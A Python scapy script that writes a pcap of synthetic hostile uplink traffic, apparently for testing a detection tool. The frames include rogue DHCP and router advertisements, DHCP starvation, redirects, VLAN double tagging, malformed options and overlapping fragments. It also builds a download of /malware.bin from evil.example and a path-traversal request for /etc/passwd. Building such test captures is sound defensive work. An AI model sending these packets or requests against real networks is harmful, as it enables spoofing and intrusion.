#!/usr/bin/python3
"""Writes a capture of what goes wrong at an uplink: make-pcap.py FILE. Times are fixed, so that runs can be compared."""
import sys
from scapy.all import (BOOTP, DHCP, ICMP, IP, TCP, UDP, Dot1Q, Ether, ICMPv6ND_RA, ICMPv6ND_Redirect, IPv6, Raw, fragment, wrpcap)

HOST, GATEWAY, STRANGER = "02:00:00:00:00:10", "02:00:00:00:00:01", "02:66:66:66:66:66"
SHARED, WORLD, PEER = "203.0.113.10", "203.0.113.1", "198.51.100.7"
frames = []

def dhcp(kind, op, source, destination, source_mac, chaddr, options=()):
    ports = dict(sport=68, dport=67) if op == 1 else dict(sport=67, dport=68)
    return (Ether(src=source_mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=source, dst=destination) / UDP(**ports)
            / BOOTP(op=op, htype=1, hlen=6, chaddr=chaddr, xid=7) / DHCP(options=[("message-type", kind), *options, "end"]))

# A rogue server offers; our own host answers to the outside; sixty new clients within six seconds.
frames.append((1.0, dhcp("offer", 2, "203.0.113.66", "255.255.255.255", STRANGER, b"\2\0\0\0\0\x22", [("server_id", "203.0.113.66")])))
frames.append((2.0, dhcp("ack", 2, SHARED, "255.255.255.255", HOST, b"\2\0\0\0\0\x23", [("server_id", SHARED)])))
for n in range(60):
    frames.append((3.0 + n / 10, dhcp("discover", 1, "0.0.0.0", "255.255.255.255", STRANGER, bytes([2, 9, 9, 9, 9, n]))))
frames.append((10.0, Ether(src=STRANGER, dst=HOST) / IP(src="203.0.113.66", dst=SHARED) / ICMP(type=5, code=1, gw="203.0.113.66") / IP(src=SHARED, dst=PEER) / UDP(sport=20005, dport=53)))
frames.append((11.0, Ether(src=STRANGER, dst="33:33:00:00:00:01") / IPv6(src="fe80::66", dst="2001:db8::10", hlim=255) / ICMPv6ND_Redirect(tgt="fe80::66", dst="2001:db8::99")))
frames.append((12.0, Ether(src=HOST, dst="33:33:00:00:00:01") / IPv6(src="2001:db8::10", dst="ff02::1", hlim=255) / ICMPv6ND_RA()))
frames.append((13.0, Ether(src=STRANGER, dst=HOST) / Dot1Q(vlan=1) / Dot1Q(vlan=2) / Dot1Q(vlan=3) / Dot1Q(vlan=4) / IP(src=PEER, dst=SHARED) / UDP(sport=1, dport=2)))
frames.append((14.0, Ether(src=STRANGER, dst=HOST, type=0x0800) / Raw(bytes(IP(src=PEER, dst=SHARED, len=200) / Raw(b"x" * 30)))))

# DHCP options that lie about their length, and that just end; a DHCPv6 server; frames that are cut short; fragments that overlap.
def bootp(options):
    return (Ether(src=STRANGER, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
            / BOOTP(op=1, htype=1, hlen=6, chaddr=b"\2\0\0\0\0\x44", xid=9, options=b"\x63\x82\x53\x63") / Raw(options))
frames.append((15.0, bootp(b"\x35\x01\x03\x33\x02\x00\x01\xff")))
frames.append((15.1, bootp(b"\x35\x01\x03\x0c\x60hi")))
frames.append((16.0, Ether(src=STRANGER, dst=HOST) / IPv6(src="fe80::66", dst="fe80::10") / UDP(sport=547, dport=546) / Raw(b"\x02\0\0\7\0\2\0\x0a" + b"\0\3\0\1\2\x66\x66\x66\x66\x66")))
frames.append((17.0, Raw(bytes.fromhex("020000000010026666"))))
frames.append((18.0, Ether(src=STRANGER, dst=HOST, type=0x8100) / Raw(b"\0\1")))
frames.append((19.0, Ether(src=STRANGER, dst=HOST) / IP(src=PEER, dst=SHARED, id=77, proto=17, flags="MF") / Raw(b"a" * 32)))
frames.append((19.1, Ether(src=STRANGER, dst=HOST) / IP(src=PEER, dst=SHARED, id=77, proto=17, flags="MF", frag=2) / Raw(b"b" * 32)))
frames.append((19.2, Ether(src=STRANGER, dst=HOST) / IP(src=PEER, dst=SHARED, id=77, proto=17, frag=6) / Raw(b"c" * 8)))

# What another rule of the site finds in streams: of guest web1 behind a port of its block, and at its forward.
clock = 20.0
def talk(source, destination, sport, dport, payload):
    global clock
    there = Ether(src=HOST, dst=GATEWAY) / IP(src=source, dst=destination)
    back = Ether(src=GATEWAY, dst=HOST) / IP(src=destination, dst=source)
    if destination == SHARED:
        there[Ether].src, there[Ether].dst, back[Ether].src, back[Ether].dst = GATEWAY, HOST, HOST, GATEWAY
    for packet in (
        there / TCP(sport=sport, dport=dport, flags="S", seq=100),
        back / TCP(sport=dport, dport=sport, flags="SA", seq=500, ack=101),
        there / TCP(sport=sport, dport=dport, flags="A", seq=101, ack=501),
        there / TCP(sport=sport, dport=dport, flags="PA", seq=101, ack=501) / Raw(payload),
        back / TCP(sport=dport, dport=sport, flags="A", seq=501, ack=101 + len(payload)),
    ):
        frames.append((clock, packet))
        clock += 0.01

BLOCK_PORT = int(sys.argv[2]) if len(sys.argv) > 2 else 20005
talk(SHARED, PEER, BLOCK_PORT, 80, b"GET /malware.bin HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: bad\r\n\r\n")
talk(PEER, SHARED, 51234, 8080, b"GET /../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: \x1b[31mx\r\n\r\n")

packets = []
for at, packet in frames:
    packet.time = 1_790_000_000 + at
    packets.append(packet)
wrpcap(sys.argv[1], packets)
